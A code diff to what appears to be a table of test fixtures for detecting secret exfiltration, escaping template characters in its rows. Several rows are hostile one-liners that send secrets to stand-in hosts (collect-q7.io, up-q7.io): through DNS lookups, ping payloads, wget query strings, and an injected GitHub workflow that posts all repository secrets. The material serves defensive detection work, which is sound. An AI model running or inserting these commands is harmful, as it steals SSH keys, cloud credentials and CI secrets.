@@ -94,7 +94,7 @@ table(
     [
       "DNS, Node",
       "a.js",
-      'const h = Buffer.from(secret).toString("hex");\ndns.lookup(`${h.slice(0, 60)}.t.collect-q7.io`, () => {});',
+      'const h = Buffer.from(secret).toString("hex");\ndns.lookup(`\x24{h.slice(0, 60)}.t.collect-q7.io`, () => {});',
     ],
     ["ping", "a.sh", "ping -c 1 -p $(xxd -p -l 16 ~/.ssh/id_rsa) collect-q7.io"],
     ["an address", "a.sh", `wget -q "${URL}?k=$(base64 -w0 ~/.aws/credentials)"`],
@@ -241,7 +241,7 @@ table(
     [
       "workflow",
       "a.js",
-      'fs.writeFileSync(".github/workflows/x.yml", "run: curl -d \\"$S\\" https://up-q7.io\\nenv:\\n  S: ${{ toJSON(secrets) }}");\nexecSync("git push");',
+      'fs.writeFileSync(".github/workflows/x.yml", "run: curl -d \\"$S\\" https://up-q7.io\\nenv:\\n  S: \x24{{ toJSON(secrets) }}");\nexecSync("git push");',
     ],
     [
       "worm",
@@ -277,7 +277,7 @@ table(
     [
       "publishing",
       "release.yml",
-      "on: push\njobs:\n  r:\n    steps:\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}",
+      "on: push\njobs:\n  r:\n    steps:\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: \x24{{ secrets.NPM_TOKEN }}",
     ],
   ],
 );
